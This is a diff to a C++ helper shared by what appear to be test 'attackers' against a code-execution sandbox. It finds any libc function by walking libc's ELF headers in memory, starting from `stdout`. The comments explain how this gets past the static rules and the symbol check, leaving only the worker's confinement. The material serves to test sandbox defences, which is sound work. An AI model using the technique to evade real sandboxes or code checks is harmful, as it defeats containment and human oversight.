@@ -1,13 +1,15 @@
-// Shared by the attackers that bypass the static rules and the symbol check: finds any libc function by
-// walking libc's own ELF headers in memory from the address of an allowed one (printf). No forbidden
-// identifier, no forbidden import — only the worker's confinement can stop what follows.
+// Shared by the attackers built past the static rules (which reject every line of the walk below: `stdout` cast to
+// an integer, the ELF magic, <elf.h>'s names, a function's name in a string): finds any libc function by walking
+// libc's own ELF headers in memory from `stdout`, a pointer into libc's data. `stdout` is data, not a function, so
+// the symbol check (which rejects a function's address taken as data: `&printf`) passes it — only the worker's
+// confinement, and the evidence its refusals leave, stand between what follows and the machine.
 #include <cstdint>
 #include <cstring>
 #include <cstdio>
 #include <elf.h>
 
 static void* libc_fn(const char* name) {
-    uintptr_t base = (uintptr_t)(void*)&printf & ~(uintptr_t)4095;
+    uintptr_t base = (uintptr_t)(void*)stdout & ~(uintptr_t)4095;
     while (memcmp((const void*)base, "\x7f" "ELF", 4) != 0) base -= 4096;
     const Elf64_Ehdr* eh = (const Elf64_Ehdr*)base;
     const Elf64_Phdr* ph = (const Elf64_Phdr*)(base + eh->e_phoff);
